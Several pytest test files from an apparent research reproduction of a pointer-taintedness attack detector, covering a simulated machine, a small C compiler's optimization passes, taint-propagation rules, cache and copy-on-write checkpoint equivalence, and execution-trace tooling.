        assert session.last_trace.counts == summarize_trace(read_trace(path))

    def test_write_jsonl_round_trip(self, tmp_path):
        session, _, _ = run_traced(tmp_path)
        dump = str(tmp_path / "ring.jsonl")
        session.last_trace.write_jsonl(dump)
        assert list(read_trace(dump)) == session.last_trace.records

    def test_double_attach_rejected(self):
        from repro.core.events import EventBus

        recorder = TraceRecorder()
        bus = EventBus()
        recorder.attach(bus)
        with pytest.raises(RuntimeError):
            recorder.attach(bus)
        recorder.detach()

    def test_bad_jsonl_rejected(self, tmp_path):
        bad = tmp_path / "bad.jsonl"
        bad.write_text("not json\n")
        with pytest.raises(ValueError, match="not a JSON trace record"):
            list(read_trace(str(bad)))
        bad.write_text('{"seq": 1}\n')
        with pytest.raises(ValueError, match="missing 'event'"):
            list(read_trace(str(bad)))


class TestRendering:
    def test_render_filters_by_event_and_pc(self, tmp_path):
        _, result, path = run_traced(tmp_path)
        records = list(read_trace(path))
        text = render_trace(records, events="TaintedDereference")
        assert "TaintedDereference" in text
        assert "SyscallEnter" not in text
        assert f"{result.alert.pc:#010x}" in text
        assert render_trace(records, pc=0x1) == "(no matching trace records)"

    def test_render_limit_keeps_tail(self, tmp_path):
        _, _, path = run_traced(tmp_path)
        records = list(read_trace(path))
        text = render_trace(records, limit=2)
        assert len(text.splitlines()) == 2
        assert str(records[-1]["seq"]) in text


class TestTraceCli:
    def test_run_trace_out_then_trace_subcommand(self, tmp_path):
        victim = tmp_path / "victim.c"
        victim.write_text(VICTIM)
        trace_path = tmp_path / "t.jsonl"
        out = io.StringIO()
        code = cli_main(
            [
                "run", str(victim),
                "--stdin-text", "a" * 24,
                "--trace-out", str(trace_path),
            ],
            out=out,
        )
        assert code == 2  # detected
        assert trace_path.exists()

        out = io.StringIO()
        assert cli_main(
            ["trace", str(trace_path), "--summary"], out=out
        ) == 0
        assert "TaintedDereference" in out.getvalue()

        out = io.StringIO()
        assert cli_main(
            ["trace", str(trace_path), "--event", "TaintedDereference"],
            out=out,
        ) == 0
        assert "pointer=0x61616161" in out.getvalue()

    def test_trace_subcommand_rejects_bad_file(self, tmp_path):
        bad = tmp_path / "bad.jsonl"
        bad.write_text("nope\n")
        with pytest.raises(SystemExit):
            cli_main(["trace", str(bad)], out=io.StringIO())
