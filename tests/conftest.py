"""Pytest fixtures shared across the suite, plus a hang watchdog.

Every test gets a per-test timeout so a wedged simulator loop fails fast
instead of hanging the suite.  When the ``pytest-timeout`` plugin is
installed (CI) it owns the job; otherwise a SIGALRM fallback covers POSIX
hosts running tests on the main thread.
"""

import signal
import threading

import pytest

from tests.helpers import asm_main, run_asm

#: Per-test wall-clock budget (seconds) for the SIGALRM fallback.
TEST_TIMEOUT_SECONDS = 120


def pytest_configure(config):
    config._use_alarm_fallback = (
        config.pluginmanager.getplugin("timeout") is None
        and hasattr(signal, "SIGALRM")
    )


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_call(item):
    use_alarm = (
        item.config._use_alarm_fallback
        and threading.current_thread() is threading.main_thread()
    )
    if use_alarm:
        def on_alarm(signum, frame):
            raise TimeoutError(
                f"test exceeded {TEST_TIMEOUT_SECONDS}s (SIGALRM fallback)"
            )

        previous = signal.signal(signal.SIGALRM, on_alarm)
        signal.alarm(TEST_TIMEOUT_SECONDS)
    try:
        yield
    finally:
        if use_alarm:
            signal.alarm(0)
            signal.signal(signal.SIGALRM, previous)


@pytest.fixture
def run_body():
    """Run an instruction body on the simulated machine.

    Returns ``(simulator, exit_status)`` where the exit status is the value
    the body left in ``$v1``.
    """

    def runner(body: str, data: str = "", **kwargs):
        return run_asm(asm_main(body, data), **kwargs)

    return runner
