"""Pytest fixtures shared across the suite."""

import pytest

from tests.helpers import asm_main, run_asm


@pytest.fixture
def run_body():
    """Run an instruction body on the simulated machine.

    Returns ``(simulator, exit_status)`` where the exit status is the value
    the body left in ``$v1``.
    """

    def runner(body: str, data: str = "", **kwargs):
        return run_asm(asm_main(body, data), **kwargs)

    return runner
