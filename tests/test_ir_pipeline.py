"""Unit tests for the -O1 IR pipeline: passes, regalloc, emission.

The optimizer's contract is *verdict preservation* under pointer
taintedness (stricter than value preservation), so these tests pin both
what the passes do (fold, propagate, eliminate) and -- just as
importantly -- what they must refuse to do (fold ``x*1``, remove loads,
remove compares).
"""

from types import SimpleNamespace

import pytest

from repro.cc.compiler import compile_minic, compile_units
from repro.cc.errors import CompileError
from repro.cc.frame import FrameLayout
from repro.cc.ir import (
    BinOp,
    CallOp,
    Copy,
    IRFunction,
    Jump,
    Load,
    Ret,
)
from repro.cc.passes import (
    eliminate_dead_code,
    fold_constants,
    propagate_copies,
    simplify_cfg,
)
from repro.cc.regalloc import POOL, SPILL_SCRATCH, allocate
from repro.attacks.replay import run_minic


def make_fn(name="f"):
    return IRFunction(SimpleNamespace(name=name), FrameLayout())


class TestConstantFolding:
    def test_const_const_folds_to_copy(self):
        fn = make_fn()
        block = fn.add_block("entry")
        t = fn.new_temp()
        block.instrs.append(BinOp(t, "+", 3, 4))
        block.terminator = Ret(t)
        assert fold_constants(fn)
        assert block.instrs == [Copy(t, 7)]

    def test_division_truncates_toward_zero(self):
        fn = make_fn()
        block = fn.add_block("entry")
        t = fn.new_temp()
        block.instrs.append(BinOp(t, "/", -7, 2))
        block.terminator = Ret(t)
        fold_constants(fn)
        assert block.instrs == [Copy(t, -3)]  # C semantics, not floor

    def test_division_by_zero_not_folded(self):
        fn = make_fn()
        block = fn.add_block("entry")
        t = fn.new_temp()
        instr = BinOp(t, "/", 5, 0)
        block.instrs.append(instr)
        block.terminator = Ret(t)
        assert not fold_constants(fn)
        assert block.instrs == [instr]  # keep the runtime div behaviour

    def test_add_zero_identity_becomes_move(self):
        fn = make_fn()
        block = fn.add_block("entry")
        x, t = fn.new_temp("x"), fn.new_temp()
        block.instrs.append(BinOp(t, "+", x, 0))
        block.terminator = Ret(t)
        assert fold_constants(fn)
        assert block.instrs == [Copy(t, x)]

    @pytest.mark.parametrize("op,b", [("*", 1), ("/", 1), ("&", 0), ("*", 0)])
    def test_taint_class_changing_identities_survive(self, op, b):
        """mult/div collapse taint to word class and `& 0` depends on the
        policy's and-rule -- rewriting them would change verdicts."""
        fn = make_fn()
        block = fn.add_block("entry")
        x, t = fn.new_temp("x"), fn.new_temp()
        instr = BinOp(t, op, x, b)
        block.instrs.append(instr)
        block.terminator = Ret(t)
        assert not fold_constants(fn)
        assert block.instrs == [instr]


class TestDeadCodeElimination:
    def test_dead_pure_binop_removed(self):
        fn = make_fn()
        block = fn.add_block("entry")
        dead, live = fn.new_temp(), fn.new_temp()
        block.instrs = [BinOp(dead, "+", 1, 2), Copy(live, 9)]
        block.terminator = Ret(live)
        assert eliminate_dead_code(fn)
        assert block.instrs == [Copy(live, 9)]

    def test_dead_load_survives(self):
        """A load from a tainted address raises the paper's alert; removing
        it would flip a detection into a clean exit."""
        fn = make_fn()
        block = fn.add_block("entry")
        base, dead = fn.new_temp("p"), fn.new_temp()
        load = Load(dead, base, 0, 4)
        block.instrs = [load]
        block.terminator = Ret(None)
        eliminate_dead_code(fn)
        assert load in block.instrs

    def test_dead_compare_survives(self):
        """slt/sltu untaint their operands even when the result is unused."""
        fn = make_fn()
        block = fn.add_block("entry")
        x, dead = fn.new_temp("x"), fn.new_temp()
        cmp_instr = BinOp(dead, "slt", x, 10)
        block.instrs = [cmp_instr]
        block.terminator = Ret(None)
        eliminate_dead_code(fn)
        assert cmp_instr in block.instrs

    def test_unused_call_result_dropped_but_call_kept(self):
        fn = make_fn()
        block = fn.add_block("entry")
        dead = fn.new_temp()
        call = CallOp(dead, "g", [])
        block.instrs = [call]
        block.terminator = Ret(None)
        eliminate_dead_code(fn)
        assert block.instrs == [call]
        assert call.dst is None

    def test_transitively_dead_chain_removed(self):
        fn = make_fn()
        block = fn.add_block("entry")
        a, b = fn.new_temp(), fn.new_temp()
        block.instrs = [Copy(a, 1), BinOp(b, "+", a, 2)]
        block.terminator = Ret(None)
        eliminate_dead_code(fn)
        assert block.instrs == []


class TestCopyPropagation:
    def test_constant_propagates_then_folds(self):
        fn = make_fn()
        block = fn.add_block("entry")
        a, b = fn.new_temp(), fn.new_temp()
        block.instrs = [Copy(a, 5), BinOp(b, "+", a, 1)]
        block.terminator = Ret(b)
        assert propagate_copies(fn)
        assert block.instrs[1] == BinOp(b, "+", 5, 1)
        fold_constants(fn)
        assert block.instrs[1] == Copy(b, 6)

    def test_pinned_destination_never_recorded(self):
        """Writes into a home register are variable assignments; later uses
        must keep reading the home register so compare-untaint validates
        the variable itself, not a stale copy."""
        fn = make_fn()
        block = fn.add_block("entry")
        home = fn.new_temp("x", pin="$s0")
        src, use = fn.new_temp(), fn.new_temp()
        binop = BinOp(use, "+", home, 1)
        block.instrs = [Copy(home, src), binop]
        block.terminator = Ret(use)
        propagate_copies(fn)
        assert binop.a is home  # not rewritten to `src`

    def test_pinned_source_propagates(self):
        fn = make_fn()
        block = fn.add_block("entry")
        home = fn.new_temp("x", pin="$s0")
        alias, use = fn.new_temp(), fn.new_temp()
        binop = BinOp(use, "+", alias, 1)
        block.instrs = [Copy(alias, home), binop]
        block.terminator = Ret(use)
        assert propagate_copies(fn)
        assert binop.a is home

    def test_mapping_killed_on_redefinition(self):
        fn = make_fn()
        block = fn.add_block("entry")
        a, b, use = fn.new_temp(), fn.new_temp(), fn.new_temp()
        binop = BinOp(use, "+", b, 0)
        block.instrs = [Copy(b, a), Copy(a, 99), binop]
        block.terminator = Ret(use)
        propagate_copies(fn)
        assert binop.a is b  # b->a died when a was overwritten


class TestCfgSimplification:
    def test_constant_branch_folds_and_dead_block_removed(self):
        fn = make_fn()
        entry = fn.add_block("entry")
        then = fn.add_block("then")
        other = fn.add_block("other")
        from repro.cc.ir import Branch

        entry.terminator = Branch("beq", 3, 3, "then", "other")
        then.terminator = Ret(1)
        other.terminator = Ret(0)
        assert simplify_cfg(fn)
        assert entry.terminator == Jump("then")
        assert [b.label for b in fn.blocks] == ["entry", "then"]

    def test_register_branch_kept(self):
        """beq/bne untaint operands: a branch may only disappear when both
        operands are compile-time constants."""
        fn = make_fn()
        entry = fn.add_block("entry")
        then = fn.add_block("then")
        other = fn.add_block("other")
        from repro.cc.ir import Branch

        x = fn.new_temp("x")
        entry.terminator = Branch("beq", x, 0, "then", "other")
        then.terminator = Ret(1)
        other.terminator = Ret(0)
        simplify_cfg(fn)
        assert isinstance(entry.terminator, Branch)

    def test_empty_block_threaded(self):
        fn = make_fn()
        entry = fn.add_block("entry")
        hop = fn.add_block("hop")
        end = fn.add_block("end")
        entry.terminator = Jump("hop")
        hop.terminator = Jump("end")
        end.terminator = Ret(None)
        assert simplify_cfg(fn)
        assert entry.terminator == Jump("end")
        assert "hop" not in fn.blocks_by_label


class TestRegisterAllocation:
    def test_pool_excludes_spill_scratch(self):
        assert not set(SPILL_SCRATCH) & set(POOL)

    def test_fits_in_registers_when_pressure_is_low(self):
        fn = make_fn()
        block = fn.add_block("entry")
        a, b, c = fn.new_temp(), fn.new_temp(), fn.new_temp()
        block.instrs = [Copy(a, 1), Copy(b, 2), BinOp(c, "+", a, b)]
        block.terminator = Ret(c)
        locations = allocate(fn)
        assert all(not loc.spilled for loc in locations.values())
        assert fn.spill_size == 0

    def test_high_pressure_spills(self):
        fn = make_fn()
        block = fn.add_block("entry")
        temps = [fn.new_temp() for _ in range(len(POOL) + 3)]
        block.instrs = [Copy(t, i) for i, t in enumerate(temps)]
        acc = fn.new_temp()
        block.instrs.append(BinOp(acc, "+", temps[0], temps[1]))
        for t in temps[2:]:
            nxt = fn.new_temp()
            block.instrs.append(BinOp(nxt, "+", acc, t))
            acc = nxt
        block.terminator = Ret(acc)
        locations = allocate(fn)
        spilled = [loc for loc in locations.values() if loc.spilled]
        assert spilled
        assert fn.spill_size >= 4 * len(spilled)
        assert all(loc.offset < 0 for loc in spilled)  # below the frame

    def test_call_crossing_temp_spilled(self):
        """Allocatable registers are caller-saved here; a value live across
        a call must live in the frame, not in a clobberable register."""
        fn = make_fn()
        block = fn.add_block("entry")
        kept, ret, out = fn.new_temp(), fn.new_temp(), fn.new_temp()
        block.instrs = [
            Copy(kept, 5),
            CallOp(ret, "g", []),
            BinOp(out, "+", kept, ret),
        ]
        block.terminator = Ret(out)
        locations = allocate(fn)
        assert locations[kept.id].spilled

    def test_pinned_temps_keep_their_register(self):
        fn = make_fn()
        block = fn.add_block("entry")
        home = fn.new_temp("x", pin="$s0")
        out = fn.new_temp()
        block.instrs = [Copy(home, 1), BinOp(out, "+", home, 2)]
        block.terminator = Ret(out)
        locations = allocate(fn)
        assert home.id not in locations or locations[home.id].reg == "$s0"


class TestOptimizedExecution:
    """End-to-end: the -O1 backend produces runnable, correct programs."""

    def test_constant_expression_folds_into_return(self):
        asm = compile_minic("int main() { return 2 + 3 * 4; }", opt_level=1)
        assert "li $v0,14" in asm

    def test_opt_level_zero_is_the_default(self):
        src = "int main() { return 2 + 3 * 4; }"
        assert compile_minic(src) == compile_minic(src, opt_level=0)
        assert compile_minic(src) != compile_minic(src, opt_level=1)

    @pytest.mark.parametrize("opt_level", [0, 1])
    def test_recursion_and_loops(self, opt_level):
        src = (
            "int fib(int n) { if (n < 2) return n;"
            " return fib(n - 1) + fib(n - 2); }\n"
            "int main() { int i; int acc; acc = 0;"
            " for (i = 0; i < 10; i++) acc += fib(i); return acc; }"
        )
        result = run_minic(src, opt_level=opt_level)
        assert result.outcome == "exit"
        assert result.exit_status == 88

    def test_optimizer_reduces_dynamic_instructions(self):
        src = (
            "int main() { int i; int acc; acc = 0;"
            " for (i = 0; i < 200; i++) acc = acc + (i ^ 0) + (0 | 3);"
            " return acc & 255; }"
        )
        r0 = run_minic(src, opt_level=0)
        r1 = run_minic(src, opt_level=1)
        assert r0.exit_status == r1.exit_status
        assert r1.sim.stats.instructions < r0.sim.stats.instructions


class TestCompileUnitLocations:
    """Regression: unit-wrapped errors kept ``line=0`` and re-rendered the
    " at line N" suffix twice (once from the inner error's message, once
    from the wrapper)."""

    def test_line_and_column_preserved(self):
        bad = "int main() {\n  int x = 1;\n  x = ;\n}\n"
        with pytest.raises(CompileError) as info:
            compile_units([("app", bad)])
        err = info.value
        assert err.line == 3
        assert "in unit 'app'" in str(err)

    def test_no_double_location_suffix(self):
        bad = "int main() {\n  x = ;\n}\n"
        with pytest.raises(CompileError) as info:
            compile_units([("app", bad)])
        assert str(info.value).count(" at line ") == 1

    def test_raw_message_has_no_rendered_location(self):
        bad = "int main() {\n  x = ;\n}\n"
        with pytest.raises(CompileError) as info:
            compile_units([("app", bad)])
        assert " at line " not in info.value.raw_message
