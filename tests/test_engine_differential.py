"""Functional engine vs pipeline engine: the unified core cannot drift.

Both engines drive the same MachineState through the same predecoded
executor bindings, so every scenario in the synthetic and real-world attack
suites must produce the same verdict on both -- same outcome, same exit
status, and (for detections) the same alert kind at the same pc.
"""

import pytest

from repro.core.policy import PointerTaintPolicy
from repro.evalx.experiments import all_attack_scenarios

_SCENARIOS = {s.name: s for s in all_attack_scenarios()}


def _verdict(result):
    return (
        result.outcome,
        result.exit_status,
        (result.alert.kind, result.alert.pc) if result.alert else None,
    )


@pytest.mark.parametrize("name", sorted(_SCENARIOS))
def test_attack_verdict_identical_on_both_engines(name):
    scenario = _SCENARIOS[name]
    functional = scenario.run_attack(PointerTaintPolicy())
    pipelined = scenario.run_attack(PointerTaintPolicy(), use_pipeline=True)
    assert _verdict(functional) == _verdict(pipelined)
    # The detectors saw the same dynamic instruction stream.
    assert (
        functional.sim.stats.instructions == pipelined.sim.stats.instructions
    )
    assert (
        functional.sim.stats.tainted_dereferences
        == pipelined.sim.stats.tainted_dereferences
    )


@pytest.mark.parametrize("name", sorted(_SCENARIOS))
def test_benign_verdict_identical_on_both_engines(name):
    scenario = _SCENARIOS[name]
    if not scenario.benign_input:
        pytest.skip("scenario has no benign input")
    functional = scenario.run_benign(PointerTaintPolicy())
    pipelined = scenario.run_benign(PointerTaintPolicy(), use_pipeline=True)
    assert _verdict(functional) == _verdict(pipelined)
    assert functional.stdout == pipelined.stdout
