"""Tests for the Table 1 ALU taint-propagation rules (pure functions)."""

import pytest
from hypothesis import given, strategies as st

from repro.core.propagation import (
    SHIFT_LEFT,
    SHIFT_RIGHT,
    propagate_and,
    propagate_compare,
    propagate_default,
    propagate_shift,
    propagate_xor_same_register,
)

masks = st.integers(0, 0xF)
words = st.integers(0, 0xFFFFFFFF)


class TestDefaultRule:
    """'Taintedness of R1 = (Taintedness of R2) or (Taintedness of R3).'"""

    def test_clean_sources_clean_result(self):
        assert propagate_default(0, 0) == 0

    def test_either_source_taints(self):
        assert propagate_default(0b0001, 0) == 0b0001
        assert propagate_default(0, 0b1000) == 0b1000

    def test_bytewise_or(self):
        assert propagate_default(0b0011, 0b0101) == 0b0111

    def test_single_operand_form(self):
        assert propagate_default(0b0100) == 0b0100

    @given(masks, masks)
    def test_is_commutative_and_bounded(self, a, b):
        assert propagate_default(a, b) == propagate_default(b, a)
        assert 0 <= propagate_default(a, b) <= 0xF

    @given(masks, masks)
    def test_never_loses_taint(self, a, b):
        result = propagate_default(a, b)
        assert result & a == a
        assert result & b == b


class TestShiftRule:
    """Tainted bytes also taint their neighbour along the shift direction."""

    def test_left_shift_spreads_to_higher_byte(self):
        assert propagate_shift(0b0001, SHIFT_LEFT) == 0b0011

    def test_right_shift_spreads_to_lower_byte(self):
        assert propagate_shift(0b1000, SHIFT_RIGHT) == 0b1100

    def test_edge_bytes_do_not_wrap(self):
        assert propagate_shift(0b1000, SHIFT_LEFT) == 0b1000
        assert propagate_shift(0b0001, SHIFT_RIGHT) == 0b0001

    def test_clean_stays_clean(self):
        assert propagate_shift(0, SHIFT_LEFT) == 0
        assert propagate_shift(0, SHIFT_RIGHT) == 0

    def test_tainted_amount_taints_everything(self):
        assert propagate_shift(0b0001, SHIFT_LEFT, amount_taint=0b1) == 0xF
        assert propagate_shift(0, SHIFT_RIGHT, amount_taint=0b0100) == 0xF

    def test_unknown_direction_rejected(self):
        with pytest.raises(ValueError):
            propagate_shift(0b1, "up")

    @given(masks, st.sampled_from([SHIFT_LEFT, SHIFT_RIGHT]))
    def test_superset_of_operand_taint(self, mask, direction):
        assert propagate_shift(mask, direction) & mask == mask

    @given(masks, st.sampled_from([SHIFT_LEFT, SHIFT_RIGHT]))
    def test_at_most_doubles(self, mask, direction):
        result = propagate_shift(mask, direction)
        assert bin(result).count("1") <= 2 * bin(mask).count("1")


class TestAndRule:
    """A byte AND-ed with an untainted zero byte becomes untainted."""

    def test_untainted_zero_clears(self):
        # Tainted value AND clean 0x000000FF: bytes 1..3 cleared.
        assert propagate_and(0xF, 0xDEADBEEF, 0, 0x000000FF) == 0b0001

    def test_tainted_zero_does_not_clear(self):
        # The zero itself is attacker-controlled: no trust gained.
        assert propagate_and(0xF, 0xDEADBEEF, 0xF, 0) == 0xF

    def test_nonzero_mask_keeps_taint(self):
        assert propagate_and(0b0010, 0xAABBCCDD, 0, 0xFFFFFFFF) == 0b0010

    def test_clean_sources_clean(self):
        assert propagate_and(0, 123, 0, 456) == 0

    def test_both_operands_checked(self):
        # A clean zero on the *left* also clears the result byte.
        assert propagate_and(0, 0, 0xF, 0xFFFFFFFF) == 0

    @given(masks, words, masks, words)
    def test_result_subset_of_or(self, ta, va, tb, vb):
        assert propagate_and(ta, va, tb, vb) & ~(ta | tb) == 0

    @given(masks, words)
    def test_and_with_clean_zero_is_fully_clean(self, taint, value):
        assert propagate_and(taint, value, 0, 0) == 0


class TestIdiomRules:
    def test_xor_same_register_is_clean(self):
        assert propagate_xor_same_register() == 0

    def test_compare_result_is_clean(self):
        assert propagate_compare() == 0
