"""Differential property test: the cache hierarchy vs. raw memory.

For any sequence of reads/writes (with taint), a CacheHierarchy in front of
RAM must be observationally identical to raw RAM -- both for returned
values and for returned taint masks -- and after a flush the backing RAM
must hold exactly the same bytes and taint bits.
"""

from hypothesis import given, settings, strategies as st

from repro.mem.cache import CacheHierarchy
from repro.mem.tainted_memory import TaintedMemory

# Confine addresses to a small region with few cache sets so evictions,
# refills, and write-backs all happen within a short operation sequence.
_ADDRESSES = st.integers(0, 2047).map(lambda n: 0x10000 + n * 4)

_OPS = st.lists(
    st.tuples(
        st.booleans(),                      # True = write
        _ADDRESSES,
        st.integers(0, 0xFFFFFFFF),         # value (ignored for reads)
        st.integers(0, 0xF),                # taint (ignored for reads)
    ),
    min_size=1,
    max_size=120,
)


class TestCacheDifferential:
    @given(_OPS)
    @settings(max_examples=60, deadline=None)
    def test_hierarchy_matches_raw_memory(self, operations):
        plain = TaintedMemory()
        backing = TaintedMemory()
        cached = CacheHierarchy(backing, l1_size=128, l2_size=512,
                                line_size=32)
        for is_write, addr, value, taint in operations:
            if is_write:
                plain.write(addr, 4, value, taint)
                cached.write(addr, 4, value, taint)
            else:
                assert cached.read(addr, 4) == plain.read(addr, 4)

        cached.flush()
        touched = {addr for is_write, addr, _, _ in operations if is_write}
        for addr in touched:
            assert backing.read(addr, 4) == plain.read(addr, 4)

    @given(_OPS)
    @settings(max_examples=30, deadline=None)
    def test_byte_level_view_after_flush(self, operations):
        plain = TaintedMemory()
        backing = TaintedMemory()
        cached = CacheHierarchy(backing, l1_size=128, l2_size=512,
                                line_size=32)
        for is_write, addr, value, taint in operations:
            if is_write:
                plain.write(addr, 4, value, taint)
                cached.write(addr, 4, value, taint)
        cached.flush()
        lo = 0x10000
        hi = 0x10000 + 2048 * 4
        assert backing.read_bytes(lo, hi - lo) == plain.read_bytes(lo, hi - lo)
        assert backing.read_taint(lo, hi - lo) == plain.read_taint(lo, hi - lo)
