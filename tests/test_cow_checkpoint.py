"""Copy-on-write delta checkpoints: differential equivalence and invariants.

Three layers of evidence that delta restore is observably identical to
the legacy eager full-copy restore:

* a randomized differential -- two identically seeded memory/plane pairs
  run the same interleaved stream of writes, bulk I/O, taint flips, wild
  writes, and rollbacks, one through ``snapshot()``/``restore()`` and one
  through the COW capture, and must stay bit-identical after every
  rollback (both plane modes);
* white-box invariants on the capture's dirty/fresh/baseline tracking
  (first-write COW, fresh-page dropping, restore idempotence,
  displacement completion);
* the campaign digest pin -- one golden digest asserted across delta vs
  legacy restore, both taint modes, superblocks on/off, and worker pools,
  which is the end-to-end statement CI enforces.
"""

import random

import pytest

from repro.fault.campaign import CampaignConfig, FaultCampaign
from repro.fault.workloads import builtin_workload
from repro.mem.layout import PAGE_SIZE
from repro.mem.tainted_memory import TaintedMemory
from repro.taint.bits import TaintVector
from repro.taint.plane import MODE_BIT, MODE_LABEL, TaintPlane

#: exp3 / seed 11 / 25 trials, pinned.  Every configuration a campaign can
#: run in must reproduce this digest byte for byte (see TestCampaignDigestPin
#: and the checkpoint-smoke CI job).
DIGEST_PIN = "9b0588e410ed0e9184188b6567b5305abf6f4b56023b4c3a48c6e35f79829e4b"

#: A few pages of "program" address space plus a wild region far away,
#: so fault-style stray writes materialize fresh pages.
_BASE = 0x0040_0000
_WILD = 0x6161_4000


def _observable_state(memory: TaintedMemory):
    """Everything a restore must reproduce, as comparable values."""
    plane = memory.plane
    state = {
        "pages": {b: bytes(p) for b, p in memory._pages.items()},
        "shadow": {b: bytes(p) for b, p in plane.mem_taint.items()},
        "tainted_pages": set(plane.tainted_pages),
        "reg_taints": tuple(plane.reg_taints),
        "tainted_bytes_written": memory.tainted_bytes_written,
    }
    if plane.table is not None:
        state["mem_labels"] = dict(plane.mem_labels)
        state["reg_labels"] = tuple(plane.reg_labels)
        state["hilo_label"] = plane.hilo_label
        state["labels"] = tuple(plane.table.labels)
        state["sets"] = tuple(plane.table.sets)
    return state


def _seed_memory(memory: TaintedMemory, rng: random.Random) -> None:
    for i in range(4):
        memory.write_bytes(
            _BASE + i * PAGE_SIZE, bytes(rng.randrange(256) for _ in range(64))
        )
    memory.write_bytes(_BASE + 100, b"tainted-input", taint=True)
    if memory.plane.table is not None:
        lid = memory.plane.table.new_label(
            source_kind="stdin", syscall="read", fd=0, offset_range=(0, 13)
        )
        memory.plane.label_span(_BASE + 100, 13, memory.plane.table.singleton(lid))


def _random_op(memory: TaintedMemory, rng: random.Random) -> None:
    """One random mutation/observation, including page-straddling and wild
    accesses.  Must be driven by an identically seeded rng on both sides."""
    plane = memory.plane
    choice = rng.randrange(10)
    region = _WILD if rng.random() < 0.2 else _BASE
    addr = region + rng.randrange(3 * PAGE_SIZE)
    if choice == 0:
        size = rng.choice((1, 2, 4))
        memory.write(
            addr, size, rng.getrandbits(8 * size),
            taint_mask=rng.getrandbits(size),
        )
    elif choice == 1:
        length = rng.randrange(1, 200)
        memory.write_bytes(
            addr, bytes(rng.randrange(256) for _ in range(length)),
            taint=rng.random() < 0.5,
        )
    elif choice == 2:
        length = rng.randrange(1, 64)
        vector = TaintVector(length, rng.getrandbits(length))
        memory.write_bytes(addr, bytes(length), taint=vector)
    elif choice == 3:
        memory.set_taint(addr, rng.randrange(1, 300), rng.random() < 0.5)
    elif choice == 4:
        # Straddle a page boundary explicitly.
        edge = region + PAGE_SIZE - rng.randrange(1, 4)
        memory.write(edge, 4, rng.getrandbits(32), taint_mask=rng.getrandbits(4))
    elif choice == 5:
        memory.read(addr, rng.choice((1, 2, 4)))
    elif choice == 6:
        memory.read_taint(addr, rng.randrange(1, 300))
    elif choice == 7:
        memory.count_tainted(addr, rng.randrange(1, 300))
    elif choice == 8:
        memory.read_cstring(addr, 64)
    else:
        if plane.table is not None:
            lid = plane.table.new_label(
                source_kind="net", syscall="recv", fd=4,
                offset_range=(0, 4),
            )
            plane.label_span(addr, 4, plane.table.singleton(lid))
        else:
            plane.flip_reg_taint(rng.randrange(1, 32), 0xF)


class TestRandomizedDifferential:
    """Legacy full-copy restore vs COW delta restore, bit for bit."""

    @pytest.mark.parametrize("mode", (MODE_BIT, MODE_LABEL))
    @pytest.mark.parametrize("seed", (1, 2, 3))
    def test_delta_restore_matches_legacy_restore(self, mode, seed):
        legacy = TaintedMemory(TaintPlane(mode))
        delta = TaintedMemory(TaintPlane(mode))
        seed_rng = random.Random(99)
        _seed_memory(legacy, random.Random(99))
        _seed_memory(delta, seed_rng)
        assert _observable_state(legacy) == _observable_state(delta)

        mem_snap = legacy.snapshot()
        plane_snap = legacy.plane.snapshot()
        cow = delta.begin_cow()
        delta.plane.begin_cow(cow)
        # The capture's exact-summary shrink is applied to the delta side
        # only; mirror it by restoring the legacy side once (its restore
        # recomputes the summary exactly the same way).
        legacy.plane.restore(plane_snap)
        legacy.restore(mem_snap)
        mem_snap = legacy.snapshot()
        plane_snap = legacy.plane.snapshot()
        assert _observable_state(legacy) == _observable_state(delta)

        rng_a = random.Random(seed)
        rng_b = random.Random(seed)
        for cycle in range(5):
            for _ in range(40):
                _random_op(legacy, rng_a)
                _random_op(delta, rng_b)
            assert _observable_state(legacy) == _observable_state(delta)
            legacy.plane.restore(plane_snap)
            legacy.restore(mem_snap)
            delta.restore_cow(cow)
            delta.plane.restore_cow(cow)
            cow.clear_dirty()
            assert _observable_state(legacy) == _observable_state(delta)

    def test_restore_after_wild_write_unmaps_fresh_pages(self):
        memory = TaintedMemory(TaintPlane(MODE_BIT))
        memory.write_bytes(_BASE, b"x" * 32)
        before = memory.mapped_pages()
        cow = memory.begin_cow()
        memory.plane.begin_cow(cow)
        memory.write_bytes(_WILD, b"A" * 1000, taint=True)
        assert memory.mapped_pages() > before
        memory.restore_cow(cow)
        memory.plane.restore_cow(cow)
        cow.clear_dirty()
        assert memory.mapped_pages() == before
        assert set(memory._pages) == set(memory._taint_pages)


class TestDirtySetInvariants:
    """White-box: the capture tracks exactly the first post-capture writes."""

    def _captured(self):
        memory = TaintedMemory(TaintPlane(MODE_BIT))
        memory.write_bytes(_BASE, bytes(range(256)))
        cow = memory.begin_cow()
        memory.plane.begin_cow(cow)
        return memory, cow

    def test_capture_starts_clean(self):
        _, cow = self._captured()
        assert not cow.data_dirty and not cow.shadow_dirty
        assert not cow.fresh and not cow.data_baseline

    def test_first_write_cows_pristine_baseline(self):
        memory, cow = self._captured()
        memory.write(_BASE, 4, 0xDEADBEEF)
        assert cow.data_dirty == {_BASE}
        assert cow.data_baseline[_BASE][:4] == bytes(range(4))
        # A second write must not re-copy (the baseline is pre-mutation).
        memory.write(_BASE, 4, 0x11111111)
        assert cow.data_baseline[_BASE][:4] == bytes(range(4))

    def test_clean_write_to_clean_page_skips_shadow_tracking(self):
        memory, cow = self._captured()
        memory.write(_BASE, 4, 7)
        assert not cow.shadow_dirty  # shadow untouched, nothing to revert

    def test_fresh_pages_never_enter_the_baseline(self):
        memory, cow = self._captured()
        memory.write(_WILD, 4, 1, taint_mask=0xF)
        assert _WILD in cow.fresh
        assert _WILD not in cow.data_baseline
        assert _WILD not in cow.shadow_baseline

    def test_restore_is_idempotent(self):
        memory, cow = self._captured()
        memory.write_bytes(_BASE + 10, b"garbage", taint=True)

        def rollback():
            memory.restore_cow(cow)
            memory.plane.restore_cow(cow)
            cow.clear_dirty()

        rollback()
        once = _observable_state(memory)
        rollback()
        assert _observable_state(memory) == once
        assert not cow.data_dirty and not cow.shadow_dirty and not cow.fresh

    def test_displacement_completes_into_legacy_snapshot(self):
        memory, cow = self._captured()
        memory.write(_BASE, 4, 0xFFFFFFFF, taint_mask=0xF)
        expected_pages = {_BASE: bytes(range(256)) + bytes(PAGE_SIZE - 256)}
        second = memory.begin_cow()  # displaces and completes the first
        memory.plane.begin_cow(second)
        assert cow.completed
        data, tainted_bytes_written = cow.full_memory
        assert data == expected_pages
        assert tainted_bytes_written == 0
        # The completed capture restores through the legacy tuple path.
        memory.restore(cow.full_memory)
        memory.plane.restore(cow.full_taint)
        assert bytes(memory._pages[_BASE]) == expected_pages[_BASE]
        assert not any(memory._taint_pages[_BASE])


